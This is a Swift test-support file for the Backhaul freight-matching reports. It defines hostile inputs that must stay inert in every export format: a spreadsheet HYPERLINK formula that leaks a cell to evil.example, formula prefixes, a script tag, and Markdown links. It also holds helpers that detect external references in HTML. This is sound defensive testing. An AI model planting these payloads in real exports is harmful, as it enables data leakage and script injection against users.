import Foundation
import Pairing
import Routing
import Testing
@testable import Backhaul

/// The strings of issue 15 that must stay inert in every format: formula
/// injection for spreadsheets, HTML for browsers, Markdown metacharacters
/// for Markdown renderers, and negative numbers that must stay numbers.
enum Hostile {
    static let hyperlink = #"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#
    static let sum = "+SUM(1+1)"
    static let at = "@SUM(1)"
    static let script = "<script>alert(1)</script>"
    static let markdown = #"**bold** _em_ [link](http://evil.example) ![img](http://evil.example/x.png) | pipe ~~strike~~ `code` <b>b</b> https://evil.example www.evil.example mail@evil.example \ \* &amp;"#
    static let heading = "# heading"
    static let list = "1. ordered"
    static let tab = "\tTAB=1+1"
    static let negative = "-12"
    static let negativeDecimal = "-3.5"

    static let all = [hyperlink, sum, at, script, markdown, heading, list, tab, negative, negativeDecimal]
}

/// A report whose every piece of user text is hostile: ids, companies,
/// files, reasons, warnings, the graph file, vehicles and fuels.
func hostileReport() -> MatchReport {
    let a = Coordinate(latitude: 56.87767, longitude: 14.80906), b = Coordinate(latitude: 56.66157, longitude: 16.36163)
    var r = sampleReport()
    r.graph.file = "maps/" + Hostile.script + "`x`.bhg"
    r.pairs = [
        .init(a: Hostile.hyperlink, b: Hostile.sum, first: Hostile.hyperlink, savingM: 220_000, emptyBeforeM: 220_000, emptyAfterM: 0,
              repositionM: 0, co2eSavedKgWTW: 151.448, co2eSavedKgTTW: 119.5, fuelSavedLitres: 48.4,
              companyA: Hostile.script, companyB: Hostile.markdown, vehicle: Hostile.at, fuel: Hostile.tab,
              legs: [.init(kind: .loaded, shipment: Hostile.hyperlink, distanceM: 110_000, polyline: [a, b]),
                     .init(kind: .loaded, shipment: Hostile.sum, distanceM: 110_000, polyline: [b, a])]),
        .init(a: Hostile.negative, b: Hostile.heading, first: Hostile.heading, savingM: 1_000, emptyBeforeM: 2_000, emptyAfterM: 1_000,
              repositionM: 500, co2eSavedKgWTW: 0.5, co2eSavedKgTTW: 0.4, fuelSavedLitres: 0.2,
              companyA: Hostile.list, companyB: Hostile.negativeDecimal, vehicle: "artic-40t", fuel: "diesel-b7",
              legs: [.init(kind: .loaded, shipment: Hostile.negative, distanceM: 1_000, polyline: [a, b])]),
    ]
    r.unpaired = [.init(id: Hostile.at, reason: "no_saving", company: Hostile.sum), .init(id: Hostile.list, reason: Hostile.script)]
    r.observedEmpty = [.init(id: Hostile.tab, distanceM: 1_234, replaces: Hostile.hyperlink)]
    r.rejected = [.init(file: Hostile.hyperlink + ".csv", line: 3, id: Hostile.markdown, reason: "origin_lat is not a number: '\(Hostile.script)'")]
    r.companies = [.init(company: Hostile.script, shipments: 1, paired: 1, pairs: 1, sharedPairs: 1, savedM: 220_000, co2eSavedKgWTW: 151.4),
                   .init(company: Hostile.markdown, shipments: 1, paired: 1, pairs: 1, sharedPairs: 1, savedM: 220_000, co2eSavedKgWTW: 151.4)]
    r.warnings = [Hostile.heading, Hostile.list, Hostile.markdown, "- a list? " + Hostile.script]
    r.parameters.vehicle = Hostile.markdown
    r.parameters.emissionBasis = Hostile.script
    r.graph.attribution = Hostile.heading
    r.summary.pairs = 2
    return r
}

/// A generated report with `count` pairs between 60 towns, every section
/// filled, for checks at sizes where the human reports must summarise.
func generatedReport(pairs count: Int, unpaired: Int = 0, rejected: Int = 0, companies: Int = 0) -> MatchReport {
    var state: UInt64 = UInt64(count) &* 0x9E37_79B9_7F4A_7C15
    func next() -> Double {
        state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
        return Double(state >> 11) / Double(1 << 53)
    }
    let towns = (0..<60).map { _ in Coordinate(latitude: 55.5 + 4 * next(), longitude: 12.5 + 5 * next()) }
    var r = sampleReport()
    r.backgroundRoads = []
    r.pairs = (0..<count).map { i in
        let a = towns[Int(next() * 60)], b = towns[Int(next() * 60)], c = towns[Int(next() * 60)]
        let saving = Int64(next() * 300_000)
        return .init(a: "G\(2 * i)", b: "G\(2 * i + 1)", first: "G\(2 * i)", savingM: saving, emptyBeforeM: saving + 5_000,
                     emptyAfterM: 5_000, repositionM: 2_000, co2eSavedKgWTW: Double(saving) / 1450, co2eSavedKgTTW: Double(saving) / 1800,
                     fuelSavedLitres: Double(saving) / 4500, companyA: "Firm \(i % 37)", companyB: "Firm \(i % 41)",
                     vehicle: "artic-40t", fuel: "diesel-b7",
                     legs: [.init(kind: .loaded, shipment: "G\(2 * i)", distanceM: 10, polyline: [a, b]),
                            .init(kind: .reposition, shipment: nil, distanceM: 10, polyline: [b, c]),
                            .init(kind: .loaded, shipment: "G\(2 * i + 1)", distanceM: 10, polyline: [c, a]),
                            .init(kind: .return, shipment: nil, distanceM: 0, polyline: [a, a])])
    }
    r.unpaired = (0..<unpaired).map { .init(id: "U\($0)", reason: ["no_saving", "time_window", "body_type"][$0 % 3]) }
    r.rejected = (0..<rejected).map { .init(file: "b.csv", line: $0 + 2, id: "R\($0)", reason: "origin_lat out of range: 123.4") }
    r.companies = (0..<companies).map {
        .init(company: "Firm \($0)", shipments: 3, paired: 2, pairs: 1, sharedPairs: 1, savedM: Int64($0) * 1000, co2eSavedKgWTW: 1)
    }
    r.summary.pairs = count
    r.summary.paired = 2 * count
    r.summary.unpaired = unpaired
    r.summary.rejected = rejected
    return r
}

/// RFC 4180 records of a CSV text (quotes, doubled quotes, separators and
/// line breaks inside quotes; LF or CRLF), independent of the writer.
func parseCSV(_ text: String, separator: Character = ",") -> [[String]] {
    var rows: [[String]] = [], row: [String] = [], field = ""
    var quoted = false, afterQuote = false
    var chars = Array(text)
    if chars.first == "\u{FEFF}" { chars.removeFirst() }
    var i = 0
    while i < chars.count {
        let c = chars[i]
        if quoted {
            if c == "\"" {
                if i + 1 < chars.count && chars[i + 1] == "\"" { field.append("\""); i += 1 } else { quoted = false; afterQuote = true }
            } else {
                field.append(c)
            }
        } else if c == "\"" && field.isEmpty && !afterQuote {
            quoted = true
        } else if c == separator {
            row.append(field); field = ""; afterQuote = false
        } else if c == "\n" || c == "\r\n" {
            row.append(field); rows.append(row); row = []; field = ""; afterQuote = false
        } else {
            field.append(c)
        }
        i += 1
    }
    if !field.isEmpty || !row.isEmpty { row.append(field); rows.append(row) }
    return rows
}

/// A minimal HTML tokenizer for structural checks: start tags with their
/// attributes, end tags and text, in order.
enum HTMLToken: Equatable {
    case start(String, [String: String], selfClosing: Bool)
    case end(String)
    case text(String)
}

func tokenizeHTML(_ html: String) -> [HTMLToken] {
    var tokens: [HTMLToken] = []
    let s = Array(html.unicodeScalars)
    var i = 0, text = ""
    func flush() { if !text.isEmpty { tokens.append(.text(text)); text = "" } }
    while i < s.count {
        guard s[i] == "<" else { text.unicodeScalars.append(s[i]); i += 1; continue }
        flush()
        if s[i...].starts(with: "<!".unicodeScalars) {
            while i < s.count && s[i] != ">" { i += 1 }
            i += 1
            continue
        }
        var j = i + 1
        let closing = j < s.count && s[j] == "/"
        if closing { j += 1 }
        var name = ""
        while j < s.count, s[j].properties.isAlphabetic || ("0"..."9").contains(s[j]) || s[j] == "-" {
            name.unicodeScalars.append(s[j]); j += 1
        }
        var attributes: [String: String] = [:]
        var selfClosing = false
        while j < s.count && s[j] != ">" {
            if s[j] == "/" { selfClosing = true; j += 1; continue }
            if s[j] == " " || s[j] == "\n" { j += 1; continue }
            var key = ""
            while j < s.count, s[j] != "=", s[j] != " ", s[j] != ">", s[j] != "/" { key.unicodeScalars.append(s[j]); j += 1 }
            var value = ""
            if j < s.count && s[j] == "=" {
                j += 1
                let quote = s[j]
                if quote == "\"" || quote == "'" {
                    j += 1
                    while j < s.count && s[j] != quote { value.unicodeScalars.append(s[j]); j += 1 }
                    j += 1
                } else {
                    while j < s.count && s[j] != " " && s[j] != ">" { value.unicodeScalars.append(s[j]); j += 1 }
                }
            }
            attributes[key.lowercased()] = value
        }
        i = j + 1
        let tag = name.lowercased()
        tokens.append(closing ? .end(tag) : .start(tag, attributes, selfClosing: selfClosing))
        // Raw text elements: their content is text up to the end tag.
        if !closing && (tag == "style" || tag == "script") {
            let end = "</\(tag)".unicodeScalars
            var k = i
            while k < s.count && !s[k...].starts(with: end) { k += 1 }
            tokens.append(.text(String(String.UnicodeScalarView(s[i..<k]))))
            i = k
        }
    }
    flush()
    return tokens
}

/// Problems with the nesting of elements (every non-void element closed,
/// in order), or an empty list.
func nestingProblems(_ tokens: [HTMLToken]) -> [String] {
    let void: Set<String> = ["meta", "br", "hr", "img", "input", "link", "col", "area", "base", "wbr"]
    var stack: [String] = [], problems: [String] = []
    for t in tokens {
        switch t {
        case .start(let name, _, let selfClosing):
            if !void.contains(name) && !selfClosing { stack.append(name) }
        case .end(let name):
            if stack.last == name { stack.removeLast() } else { problems.append("</\(name)> closes <\(stack.last ?? "nothing")>") }
        case .text: break
        }
    }
    return problems + stack.map { "<\($0)> is never closed" }
}

/// Everything in an HTML page that would make a browser fetch or run
/// something: scripts, frames, objects, embeds, images, links, `src`,
/// `href` (other than `#fragment`), `srcset`, `action`, `poster`, `data`,
/// `xlink:href`, event handlers (`on…`), `http-equiv`, CSS `url(` other
/// than `url(#…)`, `@import`, and any `//` in an attribute value.
/// Text content is not looked at: it is text.
func externalReferences(in html: String) -> [String] {
    var found: [String] = []
    let forbiddenElements: Set<String> = ["script", "iframe", "frame", "object", "embed", "img", "link", "image", "use", "audio", "video", "source", "base", "form"]
    var inStyle = false
    for t in tokenizeHTML(html) {
        switch t {
        case .start(let name, let attributes, _):
            if forbiddenElements.contains(name) { found.append("<\(name)>") }
            inStyle = name == "style"
            for (key, value) in attributes {
                if ["src", "srcset", "action", "poster", "data", "xlink:href", "http-equiv", "formaction"].contains(key)
                    || key.hasPrefix("on") || (key == "href" && !value.hasPrefix("#")) {
                    found.append("\(name) \(key)=\"\(value)\"")
                } else if value.contains("//") || value.lowercased().contains("url(") && !value.lowercased().contains("url(#") {
                    found.append("\(name) \(key)=\"\(value)\"")
                }
            }
        case .end:
            inStyle = false
        case .text(let text):
            if inStyle && (text.contains("@import") || text.contains("url(") || text.contains("//")) { found.append("style: \(text.prefix(60))") }
        }
    }
    return found
}

/// The text of a page (tags removed, the five entities and numeric
/// references decoded), for finding user strings as a reader sees them.
func visibleText(_ html: String) -> String {
    var out = ""
    for t in tokenizeHTML(html) { if case .text(let s) = t { out += s } }
    return decodeEntities(out)
}

func decodeEntities(_ s: String) -> String {
    var out = s
    for (entity, char) in [("&lt;", "<"), ("&gt;", ">"), ("&quot;", "\""), ("&#39;", "'"), ("&#x27;", "'")] {
        out = out.replacingOccurrences(of: entity, with: char)
    }
    return out.replacingOccurrences(of: "&amp;", with: "&")
}

/// The rows of each HTML table as cell counts (`th` and `td`).
func htmlTableShapes(_ html: String) -> [[Int]] {
    var tables: [[Int]] = [], rows: [Int] = [], cells = 0
    for t in tokenizeHTML(html) {
        switch t {
        case .start("table", _, _): rows = []
        case .start("tr", _, _): cells = 0
        case .start("td", _, _), .start("th", _, _): cells += 1
        case .end("tr"): rows.append(cells)
        case .end("table"): tables.append(rows)
        default: break
        }
    }
    return tables
}

/// `cmark-gfm` (GitHub's reference renderer) on this machine; the tests
/// that need it fail with a message when it is missing.
enum MarkdownRenderer {
    static let executable: String? = ["/usr/bin/cmark-gfm", "/usr/local/bin/cmark-gfm"]
        .first { FileManager.default.isExecutableFile(atPath: $0) }

    /// `markdown` as HTML with the GFM extensions GitHub uses (tables,
    /// autolinks, strikethrough) and raw HTML passed through (`--unsafe`),
    /// so that any HTML that leaks from the report shows up.
    static func render(_ markdown: String) throws -> String {
        let exe = try #require(executable, "cmark-gfm is not installed (apt-get install cmark-gfm); the Markdown rendering check needs it")
        let p = Process()
        p.executableURL = URL(fileURLWithPath: exe)
        p.arguments = ["--unsafe", "-e", "table", "-e", "autolink", "-e", "strikethrough"]
        let input = Pipe(), output = Pipe()
        p.standardInput = input
        p.standardOutput = output
        try p.run()
        input.fileHandleForWriting.write(Data(markdown.utf8))
        try input.fileHandleForWriting.close()
        let data = output.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        #expect(p.terminationStatus == 0)
        return String(decoding: data, as: UTF8.self)
    }
}
